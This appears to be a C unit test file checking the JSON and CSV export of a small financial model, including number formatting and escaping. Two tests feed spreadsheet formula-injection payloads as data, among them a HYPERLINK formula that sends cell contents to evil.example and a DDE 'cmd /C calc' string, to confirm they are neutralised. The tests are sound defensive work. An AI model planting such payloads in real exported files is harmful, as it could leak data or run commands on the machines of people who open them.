/* check_export: JSON and CSV export (src/export/export.c) of a tiny model. */
#include <check.h>
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "export/csv.h"
#include "export/export.h"
#include "export/num.h"
#include "model/bayes_metrics.h"
#include "model/expect.h"
#include "model/fin_metrics.h"
#include "check_main.h"

/*
 * The tiny model, 2020..2021, discount rate 0: invest 10 in cash in 2020; revenue 100
 * flat (growth 0); revenue share 0 then 0.125 -> {0, 12.5}; nothing else.
 * cash_flow {-10, 12.5}, cumulative {-10, 2.5}, npv = -10 + 12.5 = 2.5,
 * moic = 12.5 / 10 = 1.25, payback = 2020 + 10 / 12.5 = 2020.8, no cap (null).
 */
static void
tiny(fin_params *p, fin_result *r)
{
	*p = (fin_params){ .t0 = 2020, .T = 2021, .ntranches = 1, .revenue0 = 100,
		.growth_decay = 1, .margin_year = 2020, .cap_multiple = NAN,
		.waterfall_end = 2021 };
	p->tranche[0] = (fin_tranche){ 2020, 10, 1.0 };
	p->rev_share[1] = 0.125;
	for (int i = 0; i < FIN_MAX_YEARS; i++) {
		p->revenue_actual[i] = NAN;
		p->margin_actual[i] = NAN;
		p->compute_spend[i] = NAN;
	}
	model_fin_run(p, r);
}

/* Fills m with the tiny model as scenarios "base" (p 1) and "cf" (counterfactual),
 * the expectation over base, and one fact whose label needs escaping. */
static void
tiny_metrics(metrics *m, const fin_params *p, const fin_result *r)
{
	const char *const names[] = { "base" };
	const double probs[] = { 1 };

	metrics_add(m, "fact.commit", UNIT_USD_BN, 13, "msft-10q", "Total, \"committed\"");
	metrics_set_status(m, "fact.commit", "disclosed");
	fin_metrics_add(m, "base", 1, p, r);
	fin_metrics_add(m, "cf", NAN, p, r);
	fin_metrics_expected(m, names, probs, 1);
}

/* Asserts that text contains frag. */
static void
has(const char *text, const char *frag)
{
	ck_assert_msg(strstr(text, frag) != NULL, "missing fragment: %s", frag);
}

/* The fewest digits that read back, found by trying every count from 1 (num_put's
 * rule written the slow way). */
static void
num_slow(char *out, size_t n, double v)
{
	for (int p = 1; p <= 17; p++) {
		snprintf(out, n, "%.*g", p, v);
		if (strtod(out, NULL) == v)
			return;
	}
}

START_TEST(num_shortest_matches_search)
{
	uint64_t x = 88172645463325252ULL;
	buf b;
	char want[40];
	long n = 0;

	buf_init(&b);
	for (long i = 0; i < 16000; i++) {
		double v;
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		if (i % 4 == 0)
			memcpy(&v, &x, sizeof v); /* any bits: subnormals, huge, tiny */
		else if (i % 4 == 1)
			v = (double)(x % 100000) / pow(10, (double)((x >> 40) % 12)); /* short decimals */
		else if (i % 4 == 2)
			v = (double)(x >> 11) * 0x1p-53 * pow(10, (double)((int)(x % 40) - 20));
		else
			v = ldexp((x >> 50) % 3 ? 1.0 : -1.0, (int)(x % 200) - 100); /* powers of two */
		if (!isfinite(v) || (v == floor(v) && fabs(v) < 1e15))
			continue;
		buf_reset(&b);
		ck_assert(num_put(&b, v));
		num_slow(want, sizeof want, v);
		ck_assert_str_eq(buf_str(&b), want);
		n++;
	}
	ck_assert_int_gt(n, 10000);
	buf_free(&b);
}
END_TEST

START_TEST(json_tiny)
{
	fin_params p;
	fin_result r;
	metrics *m = metrics_new();
	buf b;
	export_scenario s[2];
	const char *j;

	tiny(&p, &r);
	tiny_metrics(m, &p, &r);
	s[0] = (export_scenario){ "base", "Base \"case\"\n", 1, &p, &r, NULL, NULL, NULL, NULL };
	s[1] = (export_scenario){ "cf", "Counterfactual", NAN, &p, &r, NULL, NULL, NULL, NULL };
	buf_init(&b);
	export_json(s, 2, m, &b);
	j = buf_str(&b);
	has(j, "{\n  \"scenarios\": {\n    \"base\": {\n"
	    "      \"title\": \"Base \\\"case\\\"\\u000a\",\n      \"probability\": 1,\n"
	    "      \"prior_probability\": null,\n      \"posterior_probability\": null,\n"
	    "      \"finance\": {\n        \"years\": [2020, 2021],\n");
	has(j, "\"npv\": 2.5,");
	has(j, "\"moic\": 1.25,");
	has(j, "\"payback_year\": 2020.8,");
	has(j, "\"cap_multiple\": null,");
	has(j, "\"total_investment\": 10,");
	has(j, "\"investment_cost\": [10, 0],");
	has(j, "\"cash_flow\": [-10, 12.5],");
	has(j, "\"cumulative\": [-10, 2.5],");
	has(j, "\"growth\": [null, 0],");
	has(j, "\"probability\": null,");
	has(j, "\"tranches\": [\n          {\n            \"year\": 2020,\n"
	    "            \"amount\": 10,\n            \"cash_fraction\": 1\n          }\n"
	    "        ],");
	has(j, "\"revenue_actual\": [null, null],");
	has(j, "\"revenue_share_rate\": [0, 0.125],");
	has(j, "\"sale_year\": null,");
	has(j, "\"units\": {\n        \"finance\": {\n          \"years\": \"year\",");
	has(j, "\"npv\": \"usd_bn\",");
	has(j, "\"cash_fraction\": \"fraction\"");
	/* every lens is the headline here (no hosting, no stake): cf {-10, 12.5} */
	has(j, "\"inflows\": 12.5,\n        \"lenses\": {\n          \"cash\": {\n"
	    "            \"payback_year\": 2020.8,\n            \"payback_year_final\": 2020.8,\n"
	    "            \"npv\": 2.5,\n");
	has(j, "\"marked\": {\n            \"payback_year\": 2020.8,");
	has(j, "\"lenses\": {\n            \"cash\": {\n              \"payback_year\": \"year\",\n"
	    "              \"payback_year_final\": \"year\",\n              \"npv\": \"usd_bn\",\n"
	    "              \"irr\": \"fraction\",\n              \"moic\": \"multiple\"\n");
	has(j, "\"finance.lens.cash_hosting.payback_year_final\": 2020.8,");
	has(j, "\"expected\": {\n    \"finance.npv\": 2.5,");
	has(j, "\"finance.cumulative\": {\n      \"years\": [2020, 2021],\n"
	    "      \"values\": [-10, 2.5]\n    }");
	has(j, "\"expected_posterior\": {},\n  \"evidence\": [],\n  \"facts\": {\n    \"commit\": {\n      \"unit\": \"usd_bn\",\n"
	    "      \"label\": \"Total, \\\"committed\\\"\",\n      \"source\": \"msft-10q\",\n"
	    "      \"status\": \"disclosed\",\n      \"value\": 13\n    }\n  },\n  \"sensitivity\": [],\n"
	    "  \"monte_carlo\": null\n}\n");
	ck_assert_ptr_null(strstr(j, " nan"));   /* NaN always as null */
	ck_assert_ptr_null(strstr(j, " -nan"));
	ck_assert_ptr_null(strstr(j, "[nan"));
	buf_free(&b);
	metrics_free(m);
}
END_TEST

/* The tiny model as two scenarios, base (prior 0.5) and alt (0.5, the same numbers
 * but npv read back as 2.5 too), and one event with likelihoods 0.8 and 0.2: posterior
 * 0.8 and 0.2, exported per scenario, as "expected_posterior" and as "evidence". */
START_TEST(json_posterior)
{
	fin_params p;
	fin_result r;
	metrics *m = metrics_new();
	const char *const names[] = { "base", "alt" };
	const double prior[] = { 0.5, 0.5 }, lik[] = { 0.8, 0.2 };
	const bayes_event ev[] = { { "deal", "A deal", lik } };
	double post[2];
	buf b;

	tiny(&p, &r);
	fin_metrics_add(m, "base", 0.5, &p, &r);
	metrics_add(m, "finance.npv@alt", UNIT_USD_BN, 12.5, NULL, NULL);
	fin_metrics_expected(m, names, prior, 2);
	ck_assert_int_eq(bayes_metrics_add(m, names, prior, 2, ev, 1, post), 0);
	model_expect_reweight(m, "expected", "expected_posterior", names, post, 2);
	export_scenario s[1] = { { "base", "Base", 0.5, &p, &r, NULL, NULL, NULL, NULL } };
	const export_evidence e[1] = { { "deal", "2025-10", "A deal", "src-1" } };
	export_extra x = { NULL, NULL, NULL, NULL, e, 1 };
	buf_init(&b);
	export_json_extra(s, 1, &x, m, &b);
	const char *j = buf_str(&b);
	has(j, "\"probability\": 0.5,\n      \"prior_probability\": 0.5,\n"
	    "      \"posterior_probability\": 0.8,\n");
	/* npv: prior 0.5 x 2.5 + 0.5 x 12.5 = 7.5, posterior 0.8 x 2.5 + 0.2 x 12.5 = 4.5 */
	has(j, "\"expected\": {\n    \"finance.npv\": 7.5,");
	/* alt has no irr: null under both weightings, not re-weighted without it */
	has(j, "\"expected_posterior\": {\n    \"finance.npv\": 4.5,\n    \"finance.irr\": null,");
	has(j, "\"evidence\": [\n    {\n      \"id\": \"deal\",\n      \"date\": \"2025-10\",\n"
	    "      \"event\": \"A deal\",\n      \"source\": \"src-1\",\n"
	    "      \"likelihood\": {\n        \"base\": 0.8,\n"
	    "        \"alt\": 0.2\n      },\n"
	    "      \"weight_after\": {\n        \"base\": 0.8,\n"
	    "        \"alt\": 0.2\n      }\n    }\n  ],");
	buf_free(&b);
	metrics_free(m);
}
END_TEST

/* Nothing at all: a well-formed document with empty objects. */
START_TEST(json_empty)
{
	metrics *m = metrics_new();
	buf b;

	buf_init(&b);
	export_json(NULL, 0, m, &b);
	ck_assert_str_eq(buf_str(&b),
	    "{\n  \"scenarios\": {},\n  \"expected\": {},\n  \"expected_posterior\": {},\n"
	    "  \"evidence\": [],\n  \"facts\": {},\n"
	    "  \"sensitivity\": [],\n  \"monte_carlo\": null\n}\n");
	buf_free(&b);
	metrics_free(m);
}
END_TEST

START_TEST(csv_rows)
{
	fin_params p;
	fin_result r;
	metrics *m = metrics_new();
	buf b;
	const char *c;

	tiny(&p, &r);
	tiny_metrics(m, &p, &r);
	metrics_add(m, "fact.a,\"b\"", UNIT_NUMBER, 1, NULL, NULL);
	buf_init(&b);
	export_csv(m, NULL, &b);
	c = buf_str(&b);
	ck_assert_int_eq(strncmp(c, "metric,scenario,year,value,unit\n", 32), 0);
	has(c, "\nfact.commit,,,13,usd_bn\n");
	has(c, "\nfinance.npv,base,,2.5,usd_bn\n");
	has(c, "\nfinance.irr,cf,,0.25");       /* -10 + 12.5 / (1 + r) = 0 at r = 0.25 */
	has(c, "\nfinance.cap_multiple,base,,,multiple\n"); /* null: empty value */
	has(c, "\nfinance.cumulative,base,2020,-10,usd_bn\n"
	    "finance.cumulative,base,2021,2.5,usd_bn\n");
	has(c, "\nfinance.npv,expected,,2.5,usd_bn\n");
	has(c, "\n\"fact.a,\"\"b\"\"\",,,1,number\n");
	buf_reset(&b);
	export_csv(m, "cf", &b);
	c = buf_str(&b);
	has(c, "\nfinance.npv,cf,,2.5,usd_bn\n");
	ck_assert_ptr_null(strstr(c, ",base,"));
	ck_assert_ptr_null(strstr(c, "fact."));
	buf_free(&b);
	metrics_free(m);
}
END_TEST

/* Asserts that csv_text writes s as want. */
static void
field_is(const char *s, const char *want)
{
	buf b;
	buf_init(&b);
	csv_text(&b, s, strlen(s));
	ck_assert_str_eq(buf_str(&b), want);
	buf_free(&b);
}

START_TEST(csv_guard)
{
	/* OWASP's starts: an apostrophe in front, the cell quoted */
	field_is("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
	field_is("+1", "\"'+1\"");
	field_is("-2+3", "\"'-2+3\"");
	field_is("@SUM(A1)", "\"'@SUM(A1)\"");
	field_is("\tx", "\"'\tx\"");
	field_is("\rx", "\"'\rx\"");
	/* a leading apostrophe gets one more: one always comes off */
	field_is("'x", "\"''x\"");
	/* elsewhere in the cell these are harmless */
	field_is("a=b+c-d@e", "a=b+c-d@e");
	field_is("a,b", "\"a,b\"");
	field_is("", "");
	ck_assert_int_eq(csv_guarded("=", 1), 1);
	ck_assert_int_eq(csv_guarded("=", 0), 0);
	ck_assert_int_eq(csv_guarded("x=", 2), 0);
	/* numbers are numbers: a negative one stays as it is */
	buf b;
	buf_init(&b);
	csv_num(&b, -2.5);
	ck_assert_str_eq(buf_str(&b), "-2.5");
	buf_free(&b);
}
END_TEST

START_TEST(csv_hostile_metrics)
{
	metrics *m = metrics_new();
	buf b;
	/* metric names and scenario names are the metrics.csv cells that are text */
	metrics_add(m, "=cmd|' /C calc'!A0", UNIT_NUMBER, -4, NULL, NULL);
	metrics_add(m, "fact.x@-evil", UNIT_NUMBER, 1, NULL, NULL);
	metrics_add(m, "@x@+y", UNIT_NUMBER, 2, NULL, NULL);
	buf_init(&b);
	export_csv(m, NULL, &b);
	const char *c = buf_str(&b);
	has(c, "\n\"'=cmd|' /C calc'!A0\",,,-4,number\n");
	has(c, "\nfact.x,\"'-evil\",,1,number\n");
	has(c, "\n\"'@x\",\"'+y\",,2,number\n");
	buf_reset(&b);
	export_csv(m, "-evil", &b);
	ck_assert_str_eq(buf_str(&b), "metric,scenario,year,value,unit\n"
	    "fact.x,\"'-evil\",,1,number\n");
	buf_free(&b);
	metrics_free(m);
}
END_TEST

static Suite *
export_suite(void)
{
	Suite *s = suite_create("export");
	TCase *tc = tcase_create("core");
	tcase_set_timeout(tc, 60); /* the slow reference search, on a loaded machine */

	tcase_add_test(tc, num_shortest_matches_search);
	tcase_add_test(tc, json_tiny);
	tcase_add_test(tc, json_posterior);
	tcase_add_test(tc, json_empty);
	tcase_add_test(tc, csv_rows);
	tcase_add_test(tc, csv_guard);
	tcase_add_test(tc, csv_hostile_metrics);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return check_run(export_suite());
}
